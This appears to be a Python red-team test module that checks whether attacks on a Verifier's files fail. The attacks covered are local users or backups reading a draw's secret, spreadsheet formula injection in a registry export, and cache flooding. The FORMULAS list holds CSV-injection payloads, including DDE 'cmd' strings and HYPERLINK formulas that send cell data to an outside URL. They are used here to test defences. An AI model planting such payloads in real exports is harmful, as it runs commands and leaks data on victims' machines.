"""Attacks on the files of a Verifier: its secrets at rest, its tables, and its disk."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from functools import partial
from pathlib import Path
from random import Random

from redteam.row import Outcome, comes_to_nothing
from redteam.workshop import Training, Workshop, accusations, digits
from support.command_line import weighbridge
from support.custody_trade import ueid
from support.interrupted_draw import committed, interrupted, make_site, units
from support.served_pieces import pieces
from support.untrained_transcripts import write_transcript

from verifier.draw.log_entries import Commitment, parse_as
from verifier.registry import Chip, Registry
from verifier.store.cache import Cache
from verifier.store.cache_room import Budget, StorageError
from verifier.store.sealing import DRAW_KEY, Sealing
from weighbridge.core.digests import DIGEST_SIZE, record_digest

# -- the secret of a draw ----------------------------------------------------------------------------------------------


def says_secret(texts: Iterable[bytes], digest: bytes) -> bool:
    """Whether the secret that a draw committed to stands anywhere in some bytes: every 32 of them are tried."""
    return any(
        record_digest("draw-secret/1", text[at : at + DIGEST_SIZE]) == digest
        for text in texts
        for at in range(len(text) - DIGEST_SIZE + 1)
    )


def by_another_user(home: Path) -> list[bytes]:
    """What a Verifier's files say to a user of its machine who is neither its owner nor of its group."""
    return [path.read_bytes() for path in home.rglob("*") if path.is_file() and path.stat().st_mode & 0o004]


def from_a_copy(home: Path) -> list[bytes]:
    """What a backup of database, write-ahead log and cache says, also unpacked; keys are not in it."""
    files = [path for path in home.rglob("*") if path.is_file() and not path.name.endswith("-key")]
    return [*(path.read_bytes() for path in files), *units(home / "db").values()]


def secret_read(by: str, shop: Workshop, seed: int) -> Outcome:
    """A Verifier has chosen the secret of a draw, and waits for its cut-off; somebody reads its files meanwhile."""
    with interrupted(make_site(shop.place())) as home:
        unit = committed(home / "db")
        digest = parse_as(unit["entry"], Commitment).secret
        known = {"user": by_another_user, "copy": from_a_copy}[by](home)
        opened = Sealing.load(home / f"db{DRAW_KEY}").open(unit["sealed"])
    noise = Random(seed).randbytes(100)
    if not says_secret([noise + opened + noise], digest):
        raise AssertionError("the attack does not know the secret when it sees it")
    return Outcome(findings=frozenset(), gain=float(says_secret(known, digest)), cost=0.0)


# -- tables ------------------------------------------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A2,"kiel")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+HYPERLINK("https://example.org/?"&A2)',
    "-2+3+cmd|' /C calc'!A0",
    "\uff1dSUM(A1)",
)
"""What spreadsheets execute (OWASP, "CSV Injection")."""
BEGINNINGS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def formulas(shop: Workshop, seed: int) -> Outcome:
    """Provers name owners and sites by formulas; the inspectorate opens the table of all chips."""
    choose, place = Random(seed), shop.place()
    registry = Registry(place / "registry.db")
    for number in range(10):
        owner, site = choose.choices(FORMULAS, k=2)
        registry.register(Chip(ueid=ueid(number), address="localhost:1", owner=owner, site=site))
    registry.close()
    code, table, said = weighbridge("registry", "export", "-", "--db", place / "registry.db")
    if code:
        raise AssertionError(said)
    _, *rows = csv.reader(io.StringIO(table))
    executed = [cell for row in rows for cell in row if cell and cell[0] in BEGINNINGS]
    return Outcome(findings=frozenset(), gain=len(executed) / (2 * len(rows)), cost=0.0)


# -- the disk ----------------------------------------------------------------------------------------------------------


def filled(shop: Workshop, seed: int) -> Outcome:
    """The transcripts of former inspections fill the cache; then another Prover's chip is inspected."""
    run = shop.record(Training(batches=digits(seed, 3)), seed, verifiable=True, checkpoint_every=1)
    size = sum(each.stat().st_size for each in run.path.rglob("*") if each.is_file())
    cache = Cache(shop.place(), budget=Budget(total=size + 1))
    junk = shop.place()
    for number in range(Random(seed).randint(3, 8)):
        former = write_transcript(junk / str(number), name=f"{seed}.{number}")
        cache.get(former, pieces(junk / str(number)))
    if cache.room.used < 2:
        raise AssertionError("there is room for the run without any pruning")
    found, failed = frozenset[str](), False
    try:
        found = accusations(shop.bench.inspected(run.path.parent, shop.bench.at_end(run.path), cache=cache))
    except StorageError:
        failed = True
    return Outcome(findings=found, gain=float(failed), cost=0.0)


BY_FILES = "attacks on the Verifier's files"

ROWS = (
    *(
        comes_to_nothing(
            name=name,
            source=BY_FILES,
            wants="know a draw's secret before its round",
            gains="1 if the secret is anywhere in what was read",
            attack=partial(secret_read, by),
            note=note,
        )
        for name, by, note in (
            (
                "another user of its machine reads a Verifier's files during a draw", "user",
                "What a service writes is its owner's alone, whatever its umask was when it started.",
            ),
            (
                "a copy of the database, its write-ahead log and the cache is read during a draw", "copy",
                "The secret is sealed under a key in a file of its own. A reader of that file knows the secret.",
            ),
        )
    ),
    comes_to_nothing(
        name="owners and sites that are formulas of spreadsheets",
        source=BY_FILES,
        wants="have the inspectorate's machines execute something",
        gains="the share of such cells that a spreadsheet would execute",
        attack=formulas,
        note="A cell that a spreadsheet would execute gets an apostrophe in front, which the import takes away.",
    ),
    comes_to_nothing(
        name="transcripts of former inspections that fill the Verifier's cache",
        source=BY_FILES,
        wants="make inspections fail",
        gains="1 if the inspection of another Prover's chip failed",
        attack=filled,
        note="What was used longest ago makes room, and nothing that an unfinished inspection uses.",
    ),
)  # fmt: skip
